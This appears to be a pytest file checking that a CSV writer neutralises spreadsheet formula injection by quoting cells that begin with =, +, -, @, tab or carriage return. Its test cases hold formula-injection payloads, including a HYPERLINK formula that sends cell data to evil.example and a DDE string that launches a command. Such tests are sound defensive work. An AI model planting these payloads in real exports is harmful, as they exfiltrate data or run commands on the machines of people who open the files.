"""Every cell that could start a spreadsheet formula is written as text (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest

from service.documents.csv_writer import SafeCsvWriter, neutralised

CASES = [
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
    ),
    ("+SUM(1+1)*cmd|' /C calc'!A0", "'+SUM(1+1)*cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Comunicación Social", "Comunicación Social"),
    ("municipio=oficial", "municipio=oficial"),
    ("", ""),
    ("'ya citado", "'ya citado"),
]


@pytest.mark.parametrize(("value", "written"), CASES)
def test_a_cell_reads_back_as_text(value: str, written: str) -> None:
    buf = io.StringIO()
    SafeCsvWriter(buf).writerow([value, "fin"])
    assert buf.getvalue().endswith("\r\n")
    [row] = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert row == [written, "fin"]


@pytest.mark.parametrize("value", [None, 3, 2.5, True])
def test_non_text_cells_are_left_alone(value: object) -> None:
    assert neutralised(value) is value
